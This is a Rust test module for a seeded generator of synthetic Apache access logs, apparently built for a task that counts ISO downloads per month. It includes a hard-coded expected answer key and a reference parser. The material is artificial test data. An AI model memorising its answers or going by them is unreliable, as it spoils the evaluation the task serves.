    ((0, 14, 0, 0), "scanner"),
    ((0, 15, 0, 0), "bots"),
    ((0, 16, 0, 0), "upper-case"),
    ((0, 17, 0, 0), "utf8"),
    ((0, 18, 0, 0), "long-lines"),
    ((1, 23, 50, 0), "midnight"),
    ((1, 23, 59, 59), "last-second"),
    ((2, 0, 0, 5), "after-midnight"),
    ((2, 0, 45, 0), "next-day"),
];

fn catalogue_start(i: usize) -> i64 {
    let (d, h, m, s) = CATALOGUE[i].0;
    d * DAY_MS + h * HOUR_MS + m * 60_000 + s * 1000
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use std::collections::HashSet;

    fn cfg(lines: usize, seed: u64, mode: Mode) -> GenConfig {
        GenConfig {
            lines,
            seed,
            mode,
            ..GenConfig::default()
        }
    }

    #[test]
    fn same_seed_same_bytes_other_seed_other_bytes() {
        let a = generate(&cfg(3_000, 7, Mode::Mixed));
        let b = generate(&cfg(3_000, 7, Mode::Mixed));
        let c = generate(&cfg(3_000, 8, Mode::Mixed));
        assert_eq!(a.lines, b.lines);
        assert_eq!(a.answer_detail, b.answer_detail);
        assert_ne!(a.lines, c.lines);
        let mut streamed = Vec::new();
        let (detail, plain) = generate_to(&cfg(3_000, 7, Mode::Mixed), &mut streamed).unwrap();
        assert_eq!(
            streamed,
            a.lines
                .join(&b'\n')
                .into_iter()
                .chain([b'\n'])
                .collect::<Vec<u8>>()
        );
        assert_eq!(detail, a.answer_detail);
        assert_eq!(plain, a.answer_plain);
    }

    #[test]
    fn catalogue_alone_has_the_hand_checked_answer() {
        let g = generate(&cfg(0, 99, Mode::Mixed));
        assert_eq!(g.lines.len(), CATALOGUE_LINES);
        let a = iso_size("/isos/linuxvillage-24.04-amd64.iso");
        let b = iso_size("/releases/24.04/linuxvillage-24.04-desktop-amd64.iso");
        let d = iso_size("/isos/linuxvillage-22.04-amd64.iso");
        let arm = iso_size("/isos/linuxvillage-24.04-arm64.iso");
        let up = iso_size("/releases/legacy/LINUXVILLAGE-8.0-I386.ISO");
        let e = iso_size("/releases/community/linuxvillage-24.04-édition-amd64.iso");
        let full = |s: u64| hdr_full(s) + s;
        let cut = 1_234_567_890;
        // A, first month: browser, wget (200 cut + 206 rest), curl (HEAD +
        // aborted GET), encoded (full + 1 MiB), Googlebot HEAD, midnight.
        let a_oct = full(a)
            + (hdr_full(a) + cut + hdr_range(cut, a - 1, a) + a - cut)
            + (hdr_full(a) + hdr_full(a) + 65_536)
            + (full(a) + hdr_full(a) + 1_048_576)
            + hdr_full(a)
            + full(a);
        let seg = b / 8;
        let b_oct: u64 = (0..8)
            .map(|i| {
                let last = if i == 7 { b - 1 } else { (i + 1) * seg - 1 };
                hdr_range(i * seg, last, b) + last - i * seg + 1
            })
            .sum();
        let expected = json!({
            "/isos/linuxvillage-22.04-amd64.iso": {
                "2026-10": {"downloads": 7, "requests": 7,
                            "bytes": 5 * full(d) + hdr_full(d) + hdr_full(d) + 5_000_000}
            },
            "/isos/linuxvillage-24.04-amd64.iso": {
                "2026-10": {"downloads": 6, "requests": 9, "bytes": a_oct},
                "2026-11": {"downloads": 2, "requests": 2, "bytes": 2 * full(a)}
            },
            "/isos/linuxvillage-24.04-arm64.iso": {
                "2026-10": {"downloads": 1, "requests": 1, "bytes": full(arm)}
            },
            "/releases/24.04/linuxvillage-24.04-desktop-amd64.iso": {
                "2026-10": {"downloads": 1, "requests": 8, "bytes": b_oct}
            },
            "/releases/community/linuxvillage-24.04-édition-amd64.iso": {
                "2026-10": {"downloads": 2, "requests": 2, "bytes": 2 * full(e)}
            },
            "/releases/legacy/LINUXVILLAGE-8.0-I386.ISO": {
                "2026-10": {"downloads": 1, "requests": 1, "bytes": full(up)}
            }
        });
        assert_eq!(g.answer_detail, expected);
        assert_eq!(
            serde_json::to_string(&g.answer_plain).unwrap(),
            concat!(
                r#"{"/isos/linuxvillage-22.04-amd64.iso":{"2026-10":7},"#,
                r#""/isos/linuxvillage-24.04-amd64.iso":{"2026-10":6,"2026-11":2},"#,
                r#""/isos/linuxvillage-24.04-arm64.iso":{"2026-10":1},"#,
                r#""/releases/24.04/linuxvillage-24.04-desktop-amd64.iso":{"2026-10":1},"#,
                r#""/releases/community/linuxvillage-24.04-édition-amd64.iso":{"2026-10":2},"#,
                r#""/releases/legacy/LINUXVILLAGE-8.0-I386.ISO":{"2026-10":1}}"#
            )
        );
        // The catalogue is seed-independent.
        assert_eq!(g.lines, generate(&cfg(0, 1, Mode::Mixed)).lines);
    }

    #[test]
    fn catalogue_lines_look_like_apache_wrote_them() {
        let g = generate(&cfg(0, 1, Mode::Mixed));
        let text: Vec<String> = g
            .lines
            .iter()
            .map(|l| String::from_utf8(l.clone()).unwrap())
            .collect();
        assert_eq!(
            text[0],
            "203.0.113.7 - - [30/Oct/2026:09:00:00 +0100] \"GET / HTTP/2.0\" 200 8653 \"-\" \
             \"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0\" \"-\""
        );
        let has = |s: &str| text.iter().any(|l| l.contains(s));
        assert!(has(
            "\"GET /isos/linuxvillage%2D24.04-amd64.iso HTTP/1.1\" 200 "
        ));
        assert!(has(
            "\"GET /isos//linuxvillage-24.04-amd64.iso HTTP/1.1\" 200 "
        ));
        assert!(has(
            "\"GET /pub/../isos/linuxvillage-22.04-amd64.iso HTTP/1.1\" 200 "
        ));
        assert!(has("\"GET /releases/community/linuxvillage-24.04-\\xc3\\xa9dition-amd64.iso HTTP/1.1\" 200 "));
        assert!(has(
            "\"GET /releases/community/linuxvillage-24.04-%C3%A9dition-amd64.iso HTTP/2.0\" 200 "
        ));
        assert!(has("\"-\" 408 0 "));
        assert!(has("\"GET /isos/linuxvillage-24.04-amd64.iso\" 400 "));
        // Out of order: the download begun at 23:50 on 31 Oct is written after
        // lines dated 1 Nov.
        let pos = |s: &str| text.iter().position(|l| l.contains(s)).unwrap();
        assert!(pos("198.51.100.99 - - [31/Oct/2026:23:50:00") > pos("[01/Nov/2026:00:00:05"));
        assert!(pos("203.0.113.9 - - [31/Oct/2026:23:59:59") > pos("[01/Nov/2026:00:00:05"));
        // Lines longer than the 4 KiB atomic pipe write, one over 8 KiB.
        assert_eq!(g.lines.iter().filter(|l| l.len() > 4096).count(), 2);
        assert!(g.lines.iter().any(|l| l.len() > 8192));
        // The segmented download wrote lines identical but for their
        // Content-Range (which is not part of a line's identity), and its
        // ranges tile the file.
        let aria: Vec<&str> = text
            .iter()
            .filter(|l| l.starts_with("2001:db8::5 "))
            .map(|l| &l[..l.rfind(" \"bytes ").unwrap()])
            .collect();
        assert_eq!(aria.len(), 8);
        assert!((0..8).any(|i| (i + 1..8).any(|j| aria[i] == aria[j])));
        assert!(has("\" \"bytes 0-"));
    }

    #[test]
    fn all_new_counts_every_line_once() {
        let g = generate(&cfg(5_000, 3, Mode::AllNew));
        assert_eq!(g.lines.len(), 5_000);
        let sum = |field: &str| -> u64 {
            g.answer_detail
                .as_object()
                .unwrap()
                .values()
                .flat_map(|m| m.as_object().unwrap().values())
                .map(|t| t[field].as_u64().unwrap())
                .sum()
        };
        assert_eq!(sum("downloads"), 5_000);
        assert_eq!(sum("requests"), 5_000);
        let ips: HashSet<&[u8]> = g
            .lines
            .iter()
            .map(|l| l.split(|&b| b == b' ').next().unwrap())
            .collect();
        assert_eq!(ips.len(), 5_000);
    }

    #[test]
    fn mixed_mode_has_the_intended_shape() {
        let g = generate(&cfg(40_000, 5, Mode::Mixed));
        let n = g.lines.len();
        assert!((40_000..40_100).contains(&n), "{n} lines");
        let requests: u64 = g
            .answer_detail
            .as_object()
            .unwrap()
            .values()
            .flat_map(|m| m.as_object().unwrap().values())
            .map(|t| t["requests"].as_u64().unwrap())
            .sum();
        let share = requests as f64 / n as f64;
        assert!((0.20..=0.30).contains(&share), "counted share {share}");
        let months: HashSet<&String> = g
            .answer_plain
            .as_object()
            .unwrap()
            .values()
            .flat_map(|m| m.as_object().unwrap().keys())
            .collect();
        assert_eq!(months.len(), 2);
        let text = String::from_utf8_lossy(&g.lines.join(&b'\n')).into_owned();
        for needle in [
            "\" 206 ",
            "\"HEAD ",
            "aria2/",
            "Googlebot",
            "Wget/",
            "curl/",
            "\n2001:db8:",
            "\" 304 ",
            "\" 416 ",
        ] {
            assert!(text.contains(needle), "{needle}");
        }
    }

    /// A small reference parser used only here, to check that what the
    /// generator wrote agrees with what it decided (the answer itself never
    /// comes from parsing).
    fn reparse(lines: &[Vec<u8>]) -> Value {
        fn unescape_percent(s: &[u8]) -> Vec<u8> {
            let mut raw = Vec::new();
            let mut i = 0;
            while i < s.len() {
                if s[i] == b'\\' && s.get(i + 1) == Some(&b'x') {
                    raw.push(
                        u8::from_str_radix(std::str::from_utf8(&s[i + 2..i + 4]).unwrap(), 16)
                            .unwrap(),
                    );
                    i += 4;
                } else if s[i] == b'%'
                    && i + 2 < s.len()
                    && s[i + 1].is_ascii_hexdigit()
                    && s[i + 2].is_ascii_hexdigit()
                {
                    raw.push(
                        u8::from_str_radix(std::str::from_utf8(&s[i + 1..i + 3]).unwrap(), 16)
                            .unwrap(),
                    );
                    i += 3;
                } else {
                    raw.push(s[i]);
                    i += 1;
                }
            }
            raw
        }
        // (path, month) -> ({(ip, day)}, requests, bytes)
        type Acc = (HashSet<(String, String)>, u64, u64);
        let mut tally: BTreeMap<(String, String), Acc> = BTreeMap::new();
        for l in lines {
            let l = std::str::from_utf8(l).unwrap();
            let ip = l.split(' ').next().unwrap();
            let ts = &l[l.find('[').unwrap() + 1..];
            let (date, _) = ts.split_once(':').unwrap();
            let q1 = l.find('"').unwrap();
            let mut q2 = q1 + 1;
            while &l[q2..q2 + 1] != "\"" || &l[q2 - 1..q2] == "\\" {
                q2 += 1;
            }
            let req: Vec<&str> = l[q1 + 1..q2].split(' ').collect();
            let rest: Vec<&str> = l[q2 + 2..].splitn(3, ' ').collect();
            let (status, bytes) = (rest[0], rest[1].parse::<u64>().unwrap_or(0));
            if req.len() != 3
                || !["GET", "HEAD"].contains(&req[0])
                || !["200", "206"].contains(&status)
            {
                continue;
            }
            let mut target = req[1];
            if let Some(i) = target.find("://") {
                target = &target[target[i + 3..].find('/').unwrap() + i + 3..];
            }
            let target = target.split('?').next().unwrap();
            let decoded = String::from_utf8(unescape_percent(target.as_bytes())).unwrap();
            let mut segs: Vec<&str> = Vec::new();
            for s in decoded.split('/') {
                match s {
                    "" | "." => {}
                    ".." => {
                        segs.pop();
                    }
                    s => segs.push(s),
                }
            }
            let path = format!("/{}", segs.join("/"));
            if !path.to_ascii_lowercase().ends_with(".iso") {
                continue;
            }
            let mut p = date.split('/');
            let (dd, mon, yyyy) = (p.next().unwrap(), p.next().unwrap(), p.next().unwrap());
            let m = MONTHS.iter().position(|&x| x == mon).unwrap() + 1;
            let e = tally.entry((path, format!("{yyyy}-{m:02}"))).or_default();
            e.0.insert((ip.to_owned(), dd.to_owned()));
            e.1 += 1;
            e.2 += bytes;
        }
        let mut out = Map::new();
        for ((path, month), (set, req, bytes)) in tally {
            let o = out.entry(path).or_insert_with(|| Value::Object(Map::new()));
            o.as_object_mut().unwrap().insert(
                month,
                json!({"downloads": set.len(), "requests": req, "bytes": bytes}),
            );
        }
        Value::Object(out)
    }

    #[test]
    fn written_text_agrees_with_the_decisions() {
        for (lines, seed, mode) in [
            (0, 1, Mode::Mixed),
            (30_000, 11, Mode::Mixed),
            (3_000, 2, Mode::AllNew),
        ] {
            let g = generate(&cfg(lines, seed, mode));
            assert_eq!(reparse(&g.lines), g.answer_detail, "seed {seed}");
        }
    }
}
